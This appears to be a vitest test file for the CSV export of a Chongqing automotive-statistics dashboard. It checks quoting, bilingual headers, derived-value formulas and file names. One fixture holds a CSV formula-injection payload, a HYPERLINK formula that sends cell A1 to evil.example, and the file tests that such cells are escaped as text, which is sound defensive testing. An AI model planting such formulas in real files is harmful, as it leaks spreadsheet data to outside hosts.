import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Observation } from '../../../src/data/types';
import { rowRecord } from '../../../src/data/import-rows';
import { figureRows, toCsv } from '../../../src/export/csv';
import { toDatasetCsv } from '../../../src/export/data-csv';
import type { ExportContext } from '../../../src/export/export-context';
import { CSV_TEXT } from '../../../src/export/csv-text';
import { exportFileName } from '../../../src/export/file-name';
import { defaultFilters, type Filters } from '../../../src/state/view';
import { companiesView } from '../../../src/features/companies/companies-series';
import { dataset } from '../support/dataset';

const context = (lang: 'en' | 'zh'): ExportContext => ({
  lang,
  title: 'Chongqing Auto Monitor — City rankings',
  headline: 'Chongqing was No.1, "again", in 2025.',
  filters: 'Years: 2016–2025 · Cities: Chongqing, Guangzhou',
  sources: 'Sources: 36Kr',
  dataDate: 'Data as of Jan 2026',
  exportedOn: '2026-11-24',
  link: 'http://127.0.0.1:4173/?panel=rankings&years=2016-2025&lang=en&v=3',
});

/** The file split into its header block and its table, parsed back as a spreadsheet would. */
function parse(csv: string) {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [meta = '', table = ''] = csv.slice(1).split('\r\n\r\n');
  return {
    meta: Papa.parse<string[]>(meta).data,
    table: Papa.parse<string[]>(table.trimEnd(), { newline: '\r\n' }).data,
  };
}

function figure(id: string) {
  const f = dataset.byId.get(id);
  if (!f) throw new Error(`no figure ${id}`);
  return f;
}

const tricky: Observation = {
  ...(dataset.byId.get('chongqing-vehicle-production-2025') as Observation),
  id: 'tricky',
  excerpt: 'He said, "2.788 million" — a record;\nthen, a new line, and 重庆 “quotes”.',
  figure: '2.788 million',
  note: { en: 'comma, "quote"', zh: '逗号，“引号”' },
};

describe('CSV export', () => {
  it('opens with a header block giving the view, its filters and its link', () => {
    const { meta } = parse(toCsv([tricky], dataset, context('en')));
    expect(meta).toEqual([
      ['View', 'Chongqing Auto Monitor — City rankings'],
      ['Summary', 'Chongqing was No.1, "again", in 2025.'],
      ['Filters', 'Years: 2016–2025 · Cities: Chongqing, Guangzhou'],
      ['Sources', 'Sources: 36Kr'],
      ['Data date', 'Data as of Jan 2026'],
      ['Exported', '2026-11-24'],
      ['Link', 'http://127.0.0.1:4173/?panel=rankings&years=2016-2025&lang=en&v=3'],
    ]);
  });

  it('quotes commas, quotes and new lines (RFC 4180) so they survive a round trip', () => {
    const csv = toCsv([tricky], dataset, context('en'));
    expect(csv).toContain(
      '"He said, ""2.788 million"" — a record;\nthen, a new line, and 重庆 “quotes”."',
    );
    const { table } = parse(csv);
    expect(table[1]?.[13]).toBe(tricky.excerpt);
    expect(table[1]?.[14]).toBe('comma, "quote"');
    expect(table).toEqual(figureRows([tricky], dataset, 'en').map((r) => r.map(String)));
  });

  // CSV formula injection: once maintainers import text from outside, an excerpt or note that
  // starts with = + - @ would run as a formula when the file is opened in Excel or WPS.
  const hostile: Observation = {
    ...tricky,
    id: 'hostile',
    value: -12.5,
    yoyPercent: -3.2,
    excerpt: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    excerptZh: '-1 译文',
    note: { en: '@SUM(1+1)', zh: '+1 又\n=2' },
  };

  it.each(['en', 'zh'] as const)(
    'writes text that starts like a formula as text, numbers as numbers (%s)',
    (lang) => {
      const csv = toCsv([hostile], dataset, { ...context(lang), headline: '-5% in 2025' });
      const { meta, table } = parse(csv);
      const row = table[1] ?? [];
      const c = CSV_TEXT[lang].columns;
      const col = (name: string) => row[(table[0] ?? []).indexOf(name)];
      expect(col(c.excerpt)).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
      expect(col(c.note)).toBe(lang === 'en' ? "'@SUM(1+1)" : "'+1 又\n=2");
      // The translation column is there only where a translation into the reader's language is.
      expect(col(c.excerptTranslation)).toBe(lang === 'en' ? undefined : "'-1 译文");
      // A negative figure and a negative growth rate stay plain numbers a spreadsheet can sum.
      expect(col(c.value)).toBe('-12.5');
      expect(col(c.yoy)).toBe('-3.2');
      expect(csv).toContain(',-12.5,');
      expect(meta[1]?.[1]).toBe("'-5% in 2025");
    },
  );

  it('escapes every text cell of the all-data file, and the importer reads it back unchanged', () => {
    const csv = toDatasetCsv([hostile], dataset, context('en'));
    const { table } = parse(csv);
    const header = table[0] ?? [];
    const row = table[1] ?? [];
    const col = (name: string) => row[header.indexOf(name)];
    expect(col('excerpt')).toBe(`'${hostile.excerpt}`);
    expect(col('excerptZh')).toBe("'-1 译文");
    expect(col('note.en')).toBe("'@SUM(1+1)");
    expect(col('value')).toBe('-12.5');
    expect(col('yoyPercent')).toBe('-3.2');
    const record = rowRecord(header, row);
    expect(record.excerpt).toBe(hostile.excerpt);
    expect(record.note).toEqual({ en: '@SUM(1+1)', zh: '+1 又\n=2' });
    expect(record.value).toBe(-12.5);
  });

  it('keeps values in base units, with kind, qualifier, stated growth and provenance', () => {
    const figures = ['chongqing-vehicle-production-2025', 'chongqing-cluster-scale-2025'].map(
      figure,
    );
    const { table } = parse(toCsv(figures, dataset, context('en')));
    expect(table[0]).toEqual([
      'id',
      'entity',
      'metric',
      'period',
      'value',
      'unit',
      'kind',
      'qualifier',
      'year-on-year % (stated)',
      'ranked among',
      'source title',
      'outlet',
      'published',
      'excerpt (article language)',
      'note',
      'conflict',
      'formula (derived values)',
    ]);
    expect(table[1]?.slice(0, 9)).toEqual([
      'chongqing-vehicle-production-2025',
      'Chongqing',
      'Vehicle production',
      '2025',
      '2788000',
      'vehicles',
      'Actual',
      '',
      '9.7',
    ]);
    expect(table[2]?.slice(4, 8)).toEqual(['800000000000', 'yuan', 'Actual', 'over']);
    expect(table[2]?.[11]).toContain('36Kr');
    expect(table[2]?.[13]).toContain('exceeded 800 billion yuan');
  });

  it('writes Chinese headers and names in Chinese, the excerpt in its own language', () => {
    const cluster = figure('chongqing-cluster-scale-2025');
    const { table } = parse(toCsv([cluster], dataset, context('zh')));
    expect(table[0]?.slice(0, 5)).toEqual(['编号', '对象', '指标', '时期', '数值']);
    expect(table[1]?.slice(1, 8)).toEqual([
      '重庆',
      '产业集群规模',
      '2025',
      '800000000000',
      '元',
      '实际',
      '超过',
    ]);
    expect(table[1]?.[13]).toContain('exceeded 800 billion yuan');
  });

  it('writes the formula of a derived value instead of a source', () => {
    const share = figure('ratio:chongqing-nev-production-2025+chongqing-vehicle-production-2025');
    const { table } = parse(toCsv([share], dataset, context('en')));
    expect(table[1]?.[6]).toBe('Derived');
    expect(table[1]?.[10]).toBe('Computed by the app');
    expect(table[1]?.[16]).toBe('1.296 M vehicles ÷ 2.788 M vehicles = 46.5%');
  });

  // Issue 12: the CSV had "2541476.7547857794" and "364963.5036496350" and "÷ (1 + +9.7%)".
  it.each([
    ['implied-prior:chongqing-vehicle-production-2025', '2541000', '÷ (1 + 9.7%) = ≈ 2.541 M'],
    ['implied-prior:chongqing-nev-production-2023', '365000', '÷ (1 + 37%) = ≈ 365,000'],
    ['ratio:chongqing-nev-production-2025+chongqing-vehicle-production-2025', '46.5', '= 46.5%'],
  ])('writes %s at the precision of its inputs', (id, value, formula) => {
    const { table } = parse(toCsv([figure(id)], dataset, context('en')));
    expect(table[1]?.[4]).toBe(value);
    expect(table[1]?.[16]).toContain(formula);
  });

  it('flags the likely misprint in the note column', () => {
    const { table } = parse(
      toCsv([figure('china-nev-retail-penetration-2023-07')], dataset, context('en')),
    );
    expect(table[1]?.[4]).toBe('51.1');
    expect(table[1]?.[14]).toMatch(/^Data issue: Likely misprint/);
  });

  it('says which article an implied value is implied from', () => {
    const { table } = parse(
      toCsv([figure('implied-prior:chongqing-vehicle-production-2025')], dataset, context('en')),
    );
    expect(table[1]?.[10]).toMatch(/^Computed by the app: implied by 2\.788 M vehicles in 2025/);
  });
});

describe('export file names', () => {
  it.each([
    ['rankings', {}, 'cq-auto_rankings_2026-11-24.csv'],
    [
      'rankings',
      { from: 2016, to: 2025, cities: ['chongqing', 'guangzhou'] },
      'cq-auto_rankings_2026-11-24_2016-2025_cq-gz.csv',
    ],
    [
      'companies',
      { companies: ['seres'], scope: 'nev' },
      'cq-auto_companies_2026-11-24_seres_nev.csv',
    ],
    ['nev', { regions: [], to: 2024 }, 'cq-auto_nev_2026-11-24_-2024_none.csv'],
    // The years limit the targets panel's actual series (issue 22): they are in its name too.
    ['targets', { targetYear: '2027', from: 2020 }, 'cq-auto_targets_2026-11-24_2020-_2027.csv'],
  ] as const)('%s %j → %s', (slide, filters, name) => {
    expect(
      exportFileName(
        slide,
        { ...defaultFilters(), ...(filters as Partial<Filters>) },
        '2026-11-24',
        'csv',
      ),
    ).toBe(name);
  });

  it('names the full dataset', () => {
    expect(exportFileName('dataset', null, '2026-11-24', 'csv')).toBe(
      'cq-auto_dataset_2026-11-24.csv',
    );
  });
});

describe('CSV of the company growth views (issue 22 §2)', () => {
  const rowsOf = (view: Parameters<typeof companiesView>[1], lang: 'en' | 'zh') => {
    const v = companiesView(dataset, view);
    return parse(
      toCsv(
        v.rows.map((r) => r.figure),
        dataset,
        context(lang),
      ),
    ).table;
  };
  const base = { companies: ['changan', 'seres'], from: null, to: null, scope: 'nev' } as const;

  it('gives an index its base year as the unit, the bound as the qualifier, and the measure', () => {
    const table = rowsOf({ ...base, scope: 'all', growth: 'index', base: null }, 'zh');
    const [header, ...rows] = table;
    const col = (name: string) => header?.indexOf(name) ?? -1;
    const changan2016 = rows.find((r) => r[0]?.includes('changan-vehicle-sales-2016'));
    expect(changan2016?.[col('指标')]).toBe('汽车销量 · 指数');
    expect(changan2016?.[col('单位')]).toBe('2025年 = 100');
    expect(changan2016?.[col('数值')]).toBe('103');
    expect(changan2016?.[col('限定词')]).toBe('不低于');
    expect(rows.every((r) => r[col('单位')] !== '指数')).toBe(true);
  });

  it('lists each stated rate once, as stated, never the computed one beside it', () => {
    const table = rowsOf({ ...base, growth: 'yoy' }, 'en');
    const changan2025 = table.filter(
      (r) => r[0]?.startsWith('stated-yoy:changan-nev-sales-2025') && r[3] === '2025',
    );
    expect(changan2025.map((r) => r[4])).toEqual(['51.1']);
    expect(table.some((r) => r[4]?.startsWith('51.2'))).toBe(false);
    expect(changan2025[0]?.[2]).toBe('NEV sales · Change on the previous year');
  });

  it('lists each company’s increase and share with their formula', () => {
    const table = rowsOf({ ...base, growth: 'contribution' }, 'en');
    // The model chart's counts follow; the company rows come first.
    expect(table.slice(1, 5).map((r) => [r[1], r[2], r[3], r[4], r[5]])).toEqual([
      ['Changan', 'NEV sales · Increase', '2024/2025', '376000', 'vehicles'],
      ['Changan', 'NEV sales · Share of the total increase', '2024/2025', '89.2', 'percent'],
      ['Seres', 'NEV sales · Increase', '2024/2025', '45400', 'vehicles'],
      ['Seres', 'NEV sales · Share of the total increase', '2024/2025', '10.8', 'percent'],
    ]);
  });
});
